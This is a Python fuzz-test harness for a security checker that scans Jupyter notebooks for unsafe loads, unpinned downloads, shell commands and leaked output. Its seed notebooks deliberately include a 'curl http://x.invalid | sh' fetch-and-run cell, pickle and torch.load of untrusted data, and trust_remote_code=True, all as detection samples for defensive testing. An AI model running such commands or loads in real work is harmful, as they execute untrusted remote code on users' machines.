"""Notebooks as the check of a repository reads them."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Final

from bartizan.devcheck.commands import commands_in
from bartizan.devcheck.downloads import unpinned_downloads
from bartizan.devcheck.files import File
from bartizan.devcheck.loading import unsafe_loads
from bartizan.devcheck.notebooks import notebook_of
from bartizan.devcheck.outputs import shown_data
from bartizan.devcheck.owners import trains
from bartizan.devcheck.program import program_in

_FILE: Final = File(path="a.ipynb", full=Path("/nowhere/a.ipynb"))


def check(data: bytes) -> None:
    """Read these bytes as a notebook, and look at its code and outputs. Raises what is not declared."""
    try:
        notebook = notebook_of(data.decode("utf-8", "replace"))
    except ValueError:
        return
    found = list(shown_data(_FILE, notebook))
    program = program_in(_FILE, notebook)
    found += [*unsafe_loads(program), *unpinned_downloads(program)]
    for command, cell, line in program.commands:
        found += commands_in(_FILE, [command], cell=cell, first=line or 1)
    trains(program)
    for one in found:
        assert not {"\n", "\x1b"} & set(str(one)), "a finding that garbles a report"


def seeds() -> list[bytes]:
    """Notebooks of both formats."""
    lines = [
        "import pickle, torch\n",
        "!pip install x\n",
        "%%time\n",
        "m = torch.load(open('a','rb'))\n",
        "x = pickle.loads(m)",
    ]
    download = "from transformers import AutoModel\nAutoModel.from_pretrained('a/b', trust_remote_code=True)"
    outputs = [
        {"output_type": "stream", "text": ["a@example.org\n"]},
        {"output_type": "display_data", "data": {"text/html": "<table></table>", "image/png": "x"}},
        {"output_type": "error", "traceback": ["x"]},
    ]
    cells = [
        {"cell_type": "code", "source": lines, "outputs": outputs},
        {"cell_type": "code", "source": download, "outputs": []},
        {"cell_type": "code", "source": "%%bash\ncurl http://x.invalid | sh"},
        {"cell_type": "markdown", "source": "text"},
    ]
    new = {"cells": cells, "metadata": {"kernelspec": {"language": "python"}}, "nbformat": 4}
    old = {
        "worksheets": [{"cells": [{"cell_type": "code", "input": "import os", "outputs": [{"png": "x"}]}]}],
        "nbformat": 3,
    }
    return [json.dumps(one).encode() for one in (new, old)]
